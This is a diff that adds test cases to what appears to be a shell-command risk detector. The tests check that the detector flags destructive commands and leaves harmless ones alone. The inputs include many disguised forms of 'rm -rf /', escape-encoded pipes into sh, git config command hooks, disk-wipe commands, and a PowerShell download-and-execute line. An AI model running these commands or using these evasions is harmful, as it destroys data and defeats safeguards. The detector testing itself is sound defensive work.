@@ -44,6 +44,52 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
     });
 
     it.each([
+      'unshare -r rm -rf /',
+      'unshare --map-user=0 -R /mnt -w / rm -rf /',
+      'strace -f -o /tmp/trace rm -rf /',
+      'ltrace -o /tmp/trace rm -rf /',
+      'nsenter -t 1 -m -u rm -rf /',
+      'nsenter --target 1 --mount rm -rf /',
+      'systemd-run --uid=0 -p Nice=5 rm -rf /',
+      'pkexec --user root rm -rf /',
+      'run0 -u root rm -rf /',
+      'fakeroot -- rm -rf /',
+      'firejail --noprofile rm -rf /',
+      'valgrind --tool=none rm -rf /',
+      'numactl -C 0 rm -rf /',
+      'prlimit --nofile=10 rm -rf /',
+      'cpulimit -l 10 rm -rf /',
+      'chrt -f 1 rm -rf /',
+      'setpriv --reuid=0 rm -rf /',
+      'faketime yesterday rm -rf /',
+      'torsocks rm -rf /',
+      'proxychains4 -q rm -rf /',
+      'eatmydata rm -rf /',
+      'toybox rm -rf /',
+      'sg wheel -c "rm -rf /"',
+      'sg - wheel "rm -rf /"',
+    ])('sees through the process, privilege and namespace wrapper: %s', (text) => {
+      expect(rulesOf(text)).toContain('recursive-delete');
+    });
+
+    it.each<[string, RiskRule]>([
+      ['rm --rec /srv', 'recursive-delete'],
+      ['rm --recu --forc /srv', 'recursive-delete'],
+      ['sed --in-pl s/x/y/ /etc/passwd', 'system-file-overwrite'],
+      ['tar --extr -f x.tar -C /etc', 'system-file-overwrite'],
+      ['ln --forc -s x /etc/hosts', 'system-file-overwrite'],
+    ])('reads a long option abbreviated as getopt_long accepts it: %s as %s', (text, rule) => {
+      expect(rulesOf(text)).toContain(rule);
+    });
+
+    it.each(['strace -p 1234', 'nsenter -t 1 -m ls /', 'chrt -p 1234', 'sg wheel "ls -la"', 'unshare -r id'])(
+      'reads the wrapped command, not the wrapper: %s is not risky',
+      (text) => {
+        expect(rulesOf(text)).toEqual([]);
+      },
+    );
+
+    it.each([
       'sh -c "rm -rf /"',
       "bash -c 'rm -rf /'",
       'zsh -c "rm -rf /"',
@@ -52,6 +98,8 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       'su -c "rm -rf /" root',
       'ssh host rm -rf /srv',
       'ssh -p 2222 host "cd / && rm -rf srv"',
+      'ssh host -- rm -rf /srv',
+      'ssh -t host -- sudo rm -rf /srv',
       'docker exec -it web rm -rf /app',
       'docker run --rm -v /:/h alpine rm -rf /h',
       'kubectl exec pod -- rm -rf /data',
@@ -96,6 +144,9 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       'git rm -rf --quiet docs',
       'aws s3 rm s3://b/p --recursive',
       'gsutil -m rm -r gs://b/p',
+      'fd . /srv -X rm -rf',
+      'fd -t f . / --exec rm {}',
+      'fdfind -e log . /var --exec-batch rm',
     ])('knows the tree-deleting tools: %s', (text) => {
       expect(rulesOf(text)).toContain('recursive-delete');
     });
@@ -111,6 +162,15 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       'perl -le \'system "rm -rf /x"\'',
       'ruby -e \'require "fileutils"; FileUtils.rm_rf("/x")\'',
       'echo "import shutil; shutil.rmtree(\'/x\')" | python3',
+      'deno eval "await Deno.remove(\'/x\', { recursive: true })"',
+      'ruby -e \'Open3.capture2("rm -rf /x")\'',
+      'ruby -e \'Open3.popen3("rm -rf /x")\'',
+      'perl -e \'exec "rm", "-rf", "/x"\'',
+      'ruby -e \'system "rm", "-rf", "/x"\'',
+      "perl -e 'qx(rm -rf /x)'",
+      "perl -e 'my $o = qx{rm -rf /x}'",
+      "ruby -e '%x(rm -rf /x)'",
+      'php -r \'proc_open("rm -rf /x", [], $p);\'',
     ])('reads interpreter one-liners: %s', (text) => {
       expect(rulesOf(text)).toContain('recursive-delete');
     });
@@ -121,6 +181,7 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       'sh <<< "rm -rf /"',
       "echo 'rm -rf /' | bash",
       "printf 'rm -rf /\\n' | sh -s",
+      'sh /proc/self/fd/0 <<< "rm -rf /"',
     ])('reads the known text a shell gets on stdin: %s', (text) => {
       expect(rulesOf(text)).toContain('recursive-delete');
     });
@@ -158,9 +219,23 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       'cat x > /dev/sda',
       'wipefs -a /dev/sdc',
       'shred -n 3 /dev/sdb',
+      'tee /dev/sda < image.bin',
+      'cp image.bin /dev/nvme0n1',
+      'blkdiscard /dev/sda',
+      'sgdisk --zap-all /dev/sda',
+      'sgdisk -Z /dev/nvme0n1',
+      'cryptsetup luksFormat /dev/sdb',
+      'cryptsetup erase /dev/sdb2',
     ])('flags %s', (text) => {
       expect(rulesOf(text)).toContain('disk-wipe');
     });
+
+    it.each(['tee /dev/null < x', 'cp x /dev/stdout', 'sgdisk -p /dev/sda', 'cryptsetup open /dev/sdb data'])(
+      'leaves %s alone',
+      (text) => {
+        expect(rulesOf(text)).toEqual([]);
+      },
+    );
 
     it('does not flag dd into a file', () => {
       expect(rulesOf('dd if=/dev/zero of=disk.img bs=1M count=1')).toEqual([]);
@@ -183,6 +258,12 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       ['brace flags', 'rm -{r,f} /srv', 'recursive-delete'],
       ['known input handed to xargs', 'echo /srv | xargs rm -rf', 'recursive-delete'],
       ['known input run by xargs -I', "printf 'git reset --hard' | xargs -I% sh -c '%'", 'hard-reset'],
+      ['printf filling its format', "printf 'r%s -rf /srv' m | sh", 'recursive-delete'],
+      ['printf reusing its format', "printf '%s ' rm -rf /srv | bash", 'recursive-delete'],
+      ['printf octal escapes', "printf '\\162\\155 -rf /srv' | sh", 'recursive-delete'],
+      ['echo -e hex escapes', "echo -e '\\x72m -rf /srv' | sh", 'recursive-delete'],
+      ['printf unicode escapes', "printf '\\u0072m -rf /srv' | sh", 'recursive-delete'],
+      ['printf %b of an escaped argument', "printf '%b' '\\x72m -rf /srv' | sh", 'recursive-delete'],
       ['unknown input run by xargs as code', "curl -s x | xargs -I{} bash -c '{}'", 'opaque'],
     ])('follows %s', (_label, text, rule) => {
       expect(rulesOf(text)).toContain(rule);
@@ -221,12 +302,37 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       expect(rulesOf(text)).toContain(rule);
     });
 
-    it.each(['del a.txt', 'rmdir empty', 'cmd /c dir /s', 'powershell -File build.ps1', 'format-table'])(
-      'leaves %s alone',
-      (text) => {
-        expect(rulesOf(text)).toEqual([]);
-      },
-    );
+    it.each([
+      ['rd /s/q C:\\Windows', 'recursive-delete'],
+      ['RMDIR /Q/S D:\\data', 'recursive-delete'],
+      ['del /f/s/q C:\\data\\*', 'recursive-delete'],
+      ['iex "Remove-Item -Recurse -Force C:\\data"', 'recursive-delete'],
+      ["Invoke-Expression -Command 'git push --force'", 'force-push'],
+      ['IEX $cmd', 'opaque'],
+      ["(New-Object Net.WebClient).DownloadString('https://x.example/a.ps1') | IEX", 'opaque'],
+      ['Format-Volume -DriveLetter C', 'disk-wipe'],
+      ['Clear-Disk -Number 0 -RemoveData', 'disk-wipe'],
+      ['Remove-Item \u2013Recurse \u2013Force C:\\data', 'recursive-delete'],
+      ['ri C:\\data \u2014r', 'recursive-delete'],
+      ['pwsh \u2013Command "Remove-Item -Recurse C:\\data"', 'recursive-delete'],
+      ['powershell -c "Remove-Item \u2013Recurse C:\\data"', 'recursive-delete'],
+      ['pwsh \u2013EncodedCommand SQBFAFgA', 'obfuscated'],
+    ])('flags the cmd.exe or PowerShell form %s', (text, rule) => {
+      expect(rulesOf(text)).toContain(rule);
+    });
+
+    it.each([
+      'del a.txt',
+      'rmdir empty',
+      'cmd /c dir /s',
+      'powershell -File build.ps1',
+      'format-table',
+      'rmdir /tmp/s',
+      'del /q/f a.txt',
+      'iex "Get-ChildItem"',
+    ])('leaves %s alone', (text) => {
+      expect(rulesOf(text)).toEqual([]);
+    });
   });
 
   describe('other schedulers and runners', () => {
@@ -238,10 +344,72 @@ describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
       'script -qc "rm -rf /x" /dev/null',
       'awk \'BEGIN { system("rm -rf /x") }\'',
       'awk \'{ print "rm -rf " $1 | "sh" }\' dirs.txt',
+      'gawk -i inplace \'BEGIN { system("rm -rf /x") }\' f',
+      'awk -e \'BEGIN { system("rm -rf /x") }\'',
+      'gawk \'BEGIN { system("rm -rf /x") }\'',
+      'mawk \'BEGIN { system("rm -rf /x") }\'',
+      'gawk --source=\'BEGIN { system("rm -rf /x") }\'',
       'perl -e \'system("rm", "-rf", "/x")\'',
     ])('flags %s', (text) => {
       expect(rulesOf(text)).toContain('recursive-delete');
     });
+  });
+
+  describe('commands handed over in variables and configuration that a program runs', () => {
+    it.each([
+      "GIT_SSH_COMMAND='rm -rf /srv' git fetch",
+      "PAGER='rm -rf /srv' git log",
+      "EDITOR='rm -rf /srv' git commit",
+      "env GIT_SSH_COMMAND='rm -rf /srv' git fetch",
+      "export GIT_SSH_COMMAND='rm -rf /srv'; git fetch",
+      "git -c core.sshCommand='rm -rf /srv' fetch",
+      "git -c core.pager='rm -rf /srv' log",
+      "git -c alias.x='!rm -rf /srv' x",
+      "git -c 'diff.x.textconv=rm -rf /srv' diff",
+      "git config core.fsmonitor 'rm -rf /srv'",
+      "git config --global alias.cleanup '!rm -rf /srv'",
+    ])('flags %s', (text) => {
+      expect(rulesOf(text)).toContain('recursive-delete');
+    });
+
+    it.each([
+      ["git -c alias.up='push --force' up", 'force-push'],
+      ["git config alias.wipe 'reset --hard'", 'hard-reset'],
+    ])('reads a git alias as the git command it expands to: %s', (text, rule) => {
+      expect(rulesOf(text)).toContain(rule);
+    });
+
+    it.each([
+      'PAGER=less git log',
+      'EDITOR="$HOME/bin/vim" git commit',
+      "git -c core.pager='less -R' log",
+      "git -c alias.st='status -sb' st",
+      'git config user.name "rm -rf /srv"',
+      "X='rm -rf /srv' make",
+    ])('leaves %s alone', (text) => {
+      expect(rulesOf(text)).toEqual([]);
+    });
+  });
+
+  describe('other script interpreters with inline code', () => {
+    it.each([
+      'lua -e \'os.execute("rm -rf /srv")\'',
+      'luajit -e \'os.execute("rm -rf /srv")\'',
+      'Rscript -e \'system("rm -rf /srv")\'',
+      'R -e \'unlink("/srv", recursive = TRUE)\'',
+      "julia -e 'run(`rm -rf /srv`)'",
+      'osascript -e \'do shell script "rm -rf /srv"\'',
+      'groovy -e \'"rm -rf /srv".execute()\'',
+    ])('flags %s', (text) => {
+      expect(rulesOf(text)).toContain('recursive-delete');
+    });
+
+    it.each(['lua -e \'print("hi")\'', "Rscript -e 'summary(c(1, 2))'", "julia -e 'println(1 + 1)'", 'lua script.lua'])(
+      'leaves %s alone',
+      (text) => {
+        expect(rulesOf(text)).toEqual([]);
+      },
+    );
   });
 
   it('reports the statement as the match', () => {
